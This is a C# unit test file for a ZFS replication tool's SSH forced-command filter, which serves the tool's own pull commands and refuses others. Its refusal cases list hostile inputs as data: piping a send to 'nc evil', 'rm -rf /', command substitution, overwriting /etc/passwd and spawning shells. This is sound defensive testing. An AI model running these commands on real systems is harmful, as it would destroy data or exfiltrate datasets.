using System.Collections.Immutable;
using ZfsAnsible.Domain.Collections;
using ZfsAnsible.Domain.Replication;
using ZfsAnsible.Testing;
using ZfsAnsible.Zfs.Execution;
using ZfsAnsible.Zfs.Serving;

namespace ZfsAnsible.Zfs.Tests;

public class ServeRulesTests
{
    private static readonly string[] Roots = ["tank/documents", "tank/docker"];

    /// <summary>What sshd hands the forced command: the words after the host, joined by spaces, as ssh sends them.</summary>
    private static string AsSshSendsIt(Command command)
    {
        var endpoint = SshEndpoint.Create("source", "root", 22, "/etc/zfsansible/ssh/pull_ed25519", []).Value!;
        var wrapped = endpoint.Wrap(command).Arguments.ToList();
        return string.Join(' ', wrapped.Skip(wrapped.IndexOf("--") + 1));
    }

    /// <summary>Every command a pull sends to its source, built by the code that sends them.</summary>
    public static TheoryData<string> PullCommands()
    {
        var runner = new ScriptedRunner();
        var replicas = new ZfsReplicas(runner, ZfsCapabilities.OpenZfs("2.3.2"));
        _ = replicas.Source("tank/documents/scans");
        _ = replicas.MarkedForReplication(Roots);
        _ = replicas.ResumedSnapshot("1-e3f1a0c9-d8-789c636064000310a500c4ec50360710e72765a5269740f80cd8e");
        _ = CapabilityProbe.Probe(runner);
        var tag = ReplicationMark.HoldTag("belinda:slowpool/backups/raw/host-storage");
        var commands = runner.Ran.Concat(
        [
            ZfsReplicas.Send(new FullSend(new ReplicaSnapshot("zfsansible_2026-12-01T00:00Z_hourly", 1, 1)), "tank/documents", raw: false),
            ZfsReplicas.Send(new IncrementalSend(new ReplicaSnapshot("a", 1, 1), new ReplicaSnapshot("b", 2, 2)), "tank/docker/registry", raw: true),
            ZfsReplicas.Send(new ResumeSend("1-e3f1a0c9-d8-789c6360"), "tank/documents", raw: false),
            .. ReplicationCommands.For(new HoldBase("tank/documents@b", tag), new SuccessRecord(DateTimeOffset.UnixEpoch, 0, TimeSpan.Zero)).Select(w => w.Command),
            .. ReplicationCommands.For(new ReleaseBase("tank/documents@a", tag), new SuccessRecord(DateTimeOffset.UnixEpoch, 0, TimeSpan.Zero)).Select(w => w.Command),
            .. ReplicationCommands.For(new SetMarks("tank/documents@b", new ValueArray<string>(["belinda:slowpool/backups/raw/host-storage"])), new SuccessRecord(DateTimeOffset.UnixEpoch, 0, TimeSpan.Zero)).Select(w => w.Command),
            .. ReplicationCommands.For(new SetMarks("tank/documents@a", new ValueArray<string>([])), new SuccessRecord(DateTimeOffset.UnixEpoch, 0, TimeSpan.Zero)).Select(w => w.Command),
        ]);
        return [.. commands.Select(AsSshSendsIt)];
    }

    [Theory]
    [MemberData(nameof(PullCommands))]
    public void Every_command_a_pull_sends_is_read_back_word_for_word_and_served(string line)
    {
        var words = RemoteCommandLine.Parse(line);
        Assert.True(words.IsOk, words.Error?.Message);
        var served = ServeRules.Check(words.Value, Roots);
        Assert.True(served.IsOk, served.Error?.Message);
        Assert.Equal(string.Join(' ', words.Value), string.Join(' ', new[] { served.Value.Command.Program }.Concat(served.Value.Command.Arguments)));
    }

    [Theory]
    [InlineData("'zfs' 'destroy' '-r' 'tank/documents'", "is not served")]
    [InlineData("'zfs' 'rollback' 'tank/documents@a'", "is not served")]
    [InlineData("'zfs' 'set' 'mountpoint=/etc' 'tank/documents'", "is not served")]
    [InlineData("'zfs' 'set' 'zfsansible:replicated=x' 'tank/documents'", "is not a snapshot name")]
    [InlineData("'zfs' 'send' 'tank/secrets@a'", "tank/secrets is outside the served datasets")]
    [InlineData("'zfs' 'send' 'tank/documents-old@a'", "outside the served datasets")]
    [InlineData("'zfs' 'send' '-R' 'tank/documents@a'", "is not a send a pull makes")]
    [InlineData("'zfs' 'send' '-I' 'tank/documents@a' 'tank/other@b'", "outside the served datasets")]
    [InlineData("'zfs' 'send' '-I' 'tank/documents@a' 'tank/documents/child@b'", "within one dataset")]
    [InlineData("'zfs' 'get' '-H' '-p' '-r' '-o' 'name,property,value,source' 'guid' 'tank'", "tank is outside the served datasets")]
    [InlineData("'zfs' 'get' '-H' '-p' '-r' '-o' 'name,property,value,source' 'keylocation' 'tank/documents'", "property 'keylocation' is not served")]
    [InlineData("'zfs' 'hold' 'keep' 'tank/documents@a'", "not a replication tag")]
    [InlineData("'zfs' 'release' 'zfsansible-replica-0123456789abcdef' 'tank/other@a'", "outside the served datasets")]
    [InlineData("'zfs' 'send' '--' '-tank/documents@a'", "is not a send a pull makes")]
    [InlineData("'sh' '-c' 'id'", "'sh' is not served")]
    [InlineData("bash", "'bash' is not served")]
    [InlineData("'zpool' 'destroy' 'tank'", "'zpool' is not served")]
    [InlineData("zfs send tank/documents@a; rm -rf /", "shell syntax (';')")]
    [InlineData("zfs send tank/documents@a | nc evil 1", "shell syntax ('|')")]
    [InlineData("zfs send $(id)", "shell syntax ('$')")]
    [InlineData("zfs send `id`", "shell syntax ('`')")]
    [InlineData("zfs send \"tank/documents@a\"", "shell syntax ('\"')")]
    [InlineData("zfs send tank/documents@a > /etc/passwd", "shell syntax ('>')")]
    [InlineData("zfs send 'tank/documents@a\nid'", "control character")]
    [InlineData("zfs send 'tank/documents@a", "unterminated quote")]
    [InlineData("", "interactive login is refused")]
    [InlineData("env 'PATH=/tmp' 'sh'", "'sh' is not served")]
    public void Anything_else_is_refused_with_its_reason(string line, string reason)
    {
        var served = RemoteCommandLine.Parse(line).Bind(words => ServeRules.Check(words, Roots));
        Assert.False(served.IsOk);
        Assert.Contains(reason, served.Error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_resumed_send_is_checked_against_the_snapshot_its_token_names()
    {
        var served = ServeRules.Check(["zfs", "send", "-t", "1-abc-de"], Roots);
        Assert.Equal("1-abc-de", served.Value!.ResumeToken);
        Assert.Null(ServeRules.CheckResumedDataset("tank/documents/scans@x", Roots));
        Assert.Contains("outside the served datasets", ServeRules.CheckResumedDataset("tank/private@x", Roots)!.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_huge_request_is_refused_unread()
    {
        var line = "zfs get " + new string('a', RemoteCommandLine.MaxLength);
        Assert.Contains("the limit is", RemoteCommandLine.Parse(line).Error!.Message, StringComparison.Ordinal);
    }
}
